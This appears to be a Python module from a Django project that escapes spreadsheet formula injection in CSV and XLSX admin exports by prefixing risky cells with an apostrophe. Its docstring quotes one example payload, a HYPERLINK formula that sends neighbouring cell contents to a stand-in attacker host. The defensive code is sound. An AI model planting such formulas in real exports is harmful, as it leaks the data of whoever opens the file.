"""Spreadsheet exports that cannot carry formulas.

A cell that starts with =, +, -, @, a tab or a carriage return is run as a formula by Excel and
LibreOffice, so a commune could title its request `=HYPERLINK("http://evil.example/?"&C3)` and
leak the neighbouring cells of whoever opens the export. Every such text cell gets a leading
apostrophe (OWASP's advice): the spreadsheet shows it as text and the value stays readable.
django-import-export's own setting only drops a leading "=", so every admin export uses these
formats instead (settings.EXPORT_FORMATS, and a test checks each admin that exports).
"""

from import_export.formats import base_formats

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def escape_formula(value):
    """The value as it may go into a spreadsheet cell: text that could start a formula is
    prefixed with an apostrophe; anything else is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def escape_dataset(dataset) -> None:
    """Escape every cell of a tablib dataset in place."""
    rows = [[escape_formula(cell) for cell in row] for row in dataset]
    headers = [escape_formula(h) for h in dataset.headers] if dataset.headers else None
    dataset.wipe()
    if headers:
        dataset.headers = headers
    for row in rows:
        dataset.append(row)


class FormulaSafeMixin:
    def export_data(self, dataset, **kwargs):
        escape_dataset(dataset)
        return super().export_data(dataset, **kwargs)


class SafeCSV(FormulaSafeMixin, base_formats.CSV):
    pass


class SafeXLSX(FormulaSafeMixin, base_formats.XLSX):
    pass


EXPORT_FORMATS = [SafeCSV, SafeXLSX]
